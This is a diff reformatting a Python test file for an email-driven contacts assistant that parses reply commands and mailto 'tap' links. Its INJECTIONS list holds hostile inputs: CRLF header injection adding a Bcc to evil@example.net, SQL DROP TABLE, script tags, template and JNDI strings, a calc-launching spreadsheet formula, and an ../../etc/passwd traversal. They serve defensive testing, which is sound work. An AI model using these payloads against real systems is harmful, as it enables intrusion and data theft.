@@ -11,9 +11,23 @@ from urllib.parse import unquote
 
 import pytest
 
-from assistant.core.commands import Answer, ByNumber, Candidate, Command, Look, Met, NotNow, Pause, Plain, Snooze, Tell, format_command
+from assistant.core.commands import (
+    Answer,
+    ByNumber,
+    Candidate,
+    Command,
+    Look,
+    Met,
+    NotNow,
+    Pause,
+    Plain,
+    Snooze,
+    Tell,
+    format_command,
+)
 from assistant.core.grammar import Speech, parse_line
 from assistant.core.locator import Locator
+from assistant.core.tapped import read_tap
 from assistant.core.taps import (
     HREF_LIMIT,
     new_token,
@@ -23,7 +37,6 @@ from assistant.core.taps import (
     tap_ref,
     tokens_in,
 )
-from assistant.core.tapped import read_tap
 from assistant.demo.gallery import digests as gallery
 from assistant.rounds import scan
 from assistant.rounds.replies import A_DAY, delivered
@@ -48,7 +61,11 @@ def test_a_reply_is_obeyed_once_and_answered_in_its_thread() -> None:
         ("unknown", "Not understood, nothing done. Closest: send 1"),
         ("noise", ""),
     ]
-    assert (transcript.message_id, transcript.changes, transcript.left_out) == ("reply-1@example.com", 2, "the quoted digest")
+    assert (transcript.message_id, transcript.changes, transcript.left_out) == (
+        "reply-1@example.com",
+        2,
+        "the quoted digest",
+    )
     entry = outbox.by_key(owner.store, f"transcript {transcript.id}")
     assert entry
     mail = message_from_bytes(entry.order.message)
@@ -72,7 +89,7 @@ def test_a_second_pass_touches_nothing() -> None:
     owner.reply("2 done")
     before = roster.snapshot(owner.store)
     owner.mailbox = BlowUp()  # type: ignore[assignment]
-    round_ = replace(Life(store=owner.store).round(), mailbox=BlowUp())  # type: ignore[arg-type]
+    round_ = replace(Life(store=owner.store).round(), mailbox=BlowUp())
     from assistant.rounds.replies import process
 
     assert process(round_) == ()
@@ -235,7 +252,7 @@ def test_all_of_a_reply_or_nothing() -> None:
         def show(self, handle: str) -> tuple[str, ...]:
             raise RuntimeError(handle)
 
-        status = help = brief  # type: ignore[assignment]
+        status = help = brief
 
     owner.put(sent_copy(owner, "2 done", "show Bob"))
     from assistant.rounds.replies import process
@@ -321,13 +338,31 @@ def test_our_own_mails_in_sent_are_no_orders() -> None:
 
 
 INJECTIONS = (
-    "note Bob: x\r\nBcc: evil@example.net", "note Bob: {{ 7*7 }} {% for x in y %}", "note Bob: <script>alert(1)</script>",
-    "add <img src=x> <a@b.example> as mentor", "add {{7*7}} <a@b.example> as mentor", "add Eve\u202e <a@b.example> as mentor",
-    "note Bob: ' OR 1=1; DROP TABLE person; --", "add Robert'); DROP TABLE person;-- <a@b.example> as mentor",
-    "met Bob, \x00\x1b[31m", "note Bob: " + "\u200b" * 300, "goal: =cmd|' /C calc'!A0", "note Bob: ${jndi:ldap://x}",
-    "add A\u2028B <c@d.example> as ally", "Bob is also <x@y.example>\u0000", "undo T99999999", "confirm AAAAAA", "Q99 yes", "C99 mentor",
-    "send 999", "snooze Bob until 9999-12-31", "snooze Bob for 9999 years", "not contact %", "not contact ____", "show ../../etc/passwd",
-)  # fmt: skip
+    "note Bob: x\r\nBcc: evil@example.net",
+    "note Bob: {{ 7*7 }} {% for x in y %}",
+    "note Bob: <script>alert(1)</script>",
+    "add <img src=x> <a@b.example> as mentor",
+    "add {{7*7}} <a@b.example> as mentor",
+    "add Eve\u202e <a@b.example> as mentor",
+    "note Bob: ' OR 1=1; DROP TABLE person; --",
+    "add Robert'); DROP TABLE person;-- <a@b.example> as mentor",
+    "met Bob, \x00\x1b[31m",
+    "note Bob: " + "\u200b" * 300,
+    "goal: =cmd|' /C calc'!A0",
+    "note Bob: ${jndi:ldap://x}",
+    "add A\u2028B <c@d.example> as ally",
+    "Bob is also <x@y.example>\u0000",
+    "undo T99999999",
+    "confirm AAAAAA",
+    "Q99 yes",
+    "C99 mentor",
+    "send 999",
+    "snooze Bob until 9999-12-31",
+    "snooze Bob for 9999 years",
+    "not contact %",
+    "not contact ____",
+    "show ../../etc/passwd",
+)
 
 
 @pytest.mark.parametrize("line", INJECTIONS)
@@ -347,9 +382,21 @@ def test_injections_stay_text(line: str) -> None:
 
 
 BOMBS = (
-    b"x" * 4_000_000, b"a " * 100_000, b"> " * 100_000, b"skip 2\n" * 299, b"note Bob: " + b"a" * 990, b"-" * 900 + b"\n" + b"_" * 900,
-    b"On " * 300 + b"wrote:", b"From: a\n" * 290, b"(" * 1000, b"<" * 900, b"\n" * 200_000, b"met " * 249, b"\xff" * 900, b"1," * 400,
-)  # fmt: skip
+    b"x" * 4_000_000,
+    b"a " * 100_000,
+    b"> " * 100_000,
+    b"skip 2\n" * 299,
+    b"note Bob: " + b"a" * 990,
+    b"-" * 900 + b"\n" + b"_" * 900,
+    b"On " * 300 + b"wrote:",
+    b"From: a\n" * 290,
+    b"(" * 1000,
+    b"<" * 900,
+    b"\n" * 200_000,
+    b"met " * 249,
+    b"\xff" * 900,
+    b"1," * 400,
+)
 
 
 @pytest.mark.parametrize("index", range(len(BOMBS)))
@@ -384,9 +431,16 @@ def tap(owner: Life, body: str, **fields: object) -> bytes:
     owner.numbers += 1
     sent = replace(Sent(message_id=f"tap-{owner.numbers}@example.com", date=owner.stamp()), **fields)  # type: ignore[arg-type]
     lines = [
-        f"From: {sent.sender}", f"To: {sent.to}", "Subject: done 2", f"Date: {sent.date}", f"Message-ID: <{sent.message_id}>",
-        "Content-Type: text/plain; charset=utf-8", *sent.extra, "", *body.split("\n"),
-    ]  # fmt: skip
+        f"From: {sent.sender}",
+        f"To: {sent.to}",
+        "Subject: done 2",
+        f"Date: {sent.date}",
+        f"Message-ID: <{sent.message_id}>",
+        "Content-Type: text/plain; charset=utf-8",
+        *sent.extra,
+        "",
+        *body.split("\n"),
+    ]
     return "\r\n".join(lines).encode()
 
 
@@ -405,7 +459,9 @@ def test_a_tap_does_what_its_ref_allows() -> None:
     owner = life()
     done = ref(owner, ByNumber("done", (2,)))
     assert len(f"ref:{done}") <= 20
-    assert tapped(owner, f"done 2\n\nref:{done}") == [("ok", "Bob Li: done, in touch on Wed 4 Mar 2026 (number 2 of 2 March)")]
+    assert tapped(owner, f"done 2\n\nref:{done}") == [
+        ("ok", "Bob Li: done, in touch on Wed 4 Mar 2026 (number 2 of 2 March)")
+    ]
     met = ref(owner, Met("met", "2"))
     assert tapped(owner, f"met 2\n\nref:{met}\nwe spoke of his review\nSent from my iPhone") == [
         ("ok", "Bob Li: met on Wed 4 Mar 2026, noted “we spoke of his review” (number 2 of 2 March)")
@@ -413,7 +469,9 @@ def test_a_tap_does_what_its_ref_allows() -> None:
     assert [outcome for outcome, _effect in tapped(owner, f"done 2\nwe spoke of it\nref:{done}")] == ["ok", "ok"]
     assert [note.text for note in roster.notes(owner.store, "bob-li", "note")] == ["we spoke of it"]
     snooze = ref(owner, Snooze(("1",), NOW.date()))
-    assert tapped(owner, f"snooze 1 until 2026-03-18\nref:{snooze}")[0][1].startswith("Jane Roe: snoozed until Wed 18 Mar")
+    assert tapped(owner, f"snooze 1 until 2026-03-18\nref:{snooze}")[0][1].startswith(
+        "Jane Roe: snoozed until Wed 18 Mar"
+    )
     assert tapped(owner, f"Q1 yes\nref:{ref(owner, Answer(1, 'yes'))}") == [("ok", "Jane Roe: also kim@far.example")]
     assert tapped(owner, f"C1 mentor\nref:{ref(owner, Candidate(1, 'mentor'))}")[0][0] == "ok"
     assert tapped(owner, f"pause\nref:{ref(owner, Pause())}")[0][0] == "ok"
@@ -465,8 +523,15 @@ def test_a_tap_copied_has_one_effect() -> None:
 def test_refs_of_a_digest_without_items_and_other_secrets() -> None:
     owner = life()
     issued.issue(
-        owner.store, token="e" * 26, kind="digest", message_id="x", digest=None, secret="other", text="", now=int(NOW.timestamp())
-    )  # fmt: skip
+        owner.store,
+        token="e" * 26,
+        kind="digest",
+        message_id="x",
+        digest=None,
+        secret="other",
+        text="",
+        now=int(NOW.timestamp()),
+    )
     assert tapped(owner, f"done 2\nref:{ref(owner, ByNumber('done', (2,)))}")[0][0] == "ok"
 
 
@@ -474,15 +539,42 @@ def test_what_can_be_tapped() -> None:
     known = {
         format_command(command): tap_of(command)
         for command in (
-            ByNumber("send", (1,)), ByNumber("done", (1, 2)), Snooze(("1",), NOW.date()), Snooze(("bob",), NOW.date()), Met("called", "3"),
-            Met("met", "bob"), NotNow("1"), NotNow("bob"), Tell("note", "1", "x"), Tell("win", None, "x"), Look("brief", "1"),
-            Candidate(2, None), Candidate(2, "advocate", hoped=True), Answer(1, "Yes"), Pause(), Plain("stop"),
+            ByNumber("send", (1,)),
+            ByNumber("done", (1, 2)),
+            Snooze(("1",), NOW.date()),
+            Snooze(("bob",), NOW.date()),
+            Met("called", "3"),
+            Met("met", "bob"),
+            NotNow("1"),
+            NotNow("bob"),
+            Tell("note", "1", "x"),
+            Tell("win", None, "x"),
+            Look("brief", "1"),
+            Candidate(2, None),
+            Candidate(2, "advocate", hoped=True),
+            Answer(1, "Yes"),
+            Pause(),
+            Plain("stop"),
         )
-    }  # fmt: skip
+    }
     assert list(known.values()) == [
-        ("1", "send"), None, ("1", "snooze"), None, ("3", "called"), None, ("1", "not now"), None, ("1", "note"), None, ("1", "brief"),
-        ("C2", "ignore"), ("C2", "hoped-for advocate"), ("Q1", "yes"), ("", "pause"), ("", "stop"),
-    ]  # fmt: skip
+        ("1", "send"),
+        None,
+        ("1", "snooze"),
+        None,
+        ("3", "called"),
+        None,
+        ("1", "not now"),
+        None,
+        ("1", "note"),
+        None,
+        ("1", "brief"),
+        ("C2", "ignore"),
+        ("C2", "hoped-for advocate"),
+        ("Q1", "yes"),
+        ("", "pause"),
+        ("", "stop"),
+    ]
     speech = Speech(NOW.date())
     assert read_tap(["note 1: x", "y"], speech, lambda *_: True).lines[0].command == Tell("note", "1", "x y")  # type: ignore[union-attr]
     assert read_tap(["what"], speech, lambda *_: True) is None
@@ -490,7 +582,9 @@ def test_what_can_be_tapped() -> None:
 
 def test_links_of_taps_are_short_and_whole() -> None:
     href = tap_href(OWNER, "done 2 & more? 100 %", "Q1 yes", "a" * 16)
-    assert href.startswith("mailto:priya@example.com?subject=done%202%20%26%20more%3F%20100%20%25&body=Q1%20yes%0D%0A%0D%0Aref%3Aaaaa")
+    assert href.startswith(
+        "mailto:priya@example.com?subject=done%202%20%26%20more%3F%20100%20%25&body=Q1%20yes%0D%0A%0D%0Aref%3Aaaaa"
+    )
     assert ref_in(unquote(href)) == "a" * 16
     assert len(tap_href(OWNER, "ü" * 300, "skip 2", "a" * 16)) < HREF_LIMIT
     with pytest.raises(ValueError, match="must be short"):
